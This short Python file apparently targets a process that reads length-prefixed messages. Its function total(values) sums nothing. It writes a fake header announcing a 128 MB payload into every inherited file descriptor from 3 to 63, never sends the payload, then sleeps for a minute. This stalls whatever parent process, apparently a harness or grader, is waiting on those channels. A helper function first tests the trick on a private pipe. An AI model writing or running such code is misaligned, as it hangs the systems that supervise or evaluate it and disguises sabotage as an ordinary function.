"""Begins an answer and never ends it: the announced length does not come."""

import os
import struct
import time


def attempt(place):
    reader, writer = os.pipe()
    os.write(writer, struct.pack("<QQ16s", 1 << 20, 0, bytes(16)))
    os.set_blocking(reader, False)
    os.read(reader, 32)
    try:
        return os.read(reader, 1) is None
    except BlockingIOError:
        return True


def total(values):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<QQ16s", 1 << 27, 0, bytes(16)))
        except OSError:
            continue
    time.sleep(60)
